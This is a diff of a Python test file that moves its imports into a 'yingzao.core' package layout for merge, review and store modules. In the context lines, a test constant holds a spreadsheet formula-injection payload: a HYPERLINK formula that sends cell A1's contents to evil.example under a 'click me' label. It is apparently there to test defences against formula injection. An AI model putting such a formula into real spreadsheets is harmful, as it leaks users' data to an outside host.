@@ -9,13 +9,15 @@ import sys
 import openpyxl
 import pytest
 
-from core import durable, errors, merge as merge_module, review
-from core.errors import StoreError
-from core.merge import merge_package, merge_packages
-from core.merge_report import save_report_xlsx, summary_lines
-from core.package import pack_session
-from core.review_package import pack_review
-from core.store import Store
+from yingzao.core import durable, errors
+from yingzao.core.exchange import merge as merge_module
+from yingzao.core.review import decisions as review
+from yingzao.core.errors import StoreError
+from yingzao.core.exchange.merge import merge_package, merge_packages
+from yingzao.core.exchange.merge_report import save_report_xlsx, summary_lines
+from yingzao.core.exchange.package import pack_session
+from yingzao.core.exchange.review_package import pack_review
+from yingzao.core.store.database import Store
 from tests.laptops import Laptop, canonical_dump, laptop_template  # noqa: F401  (fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
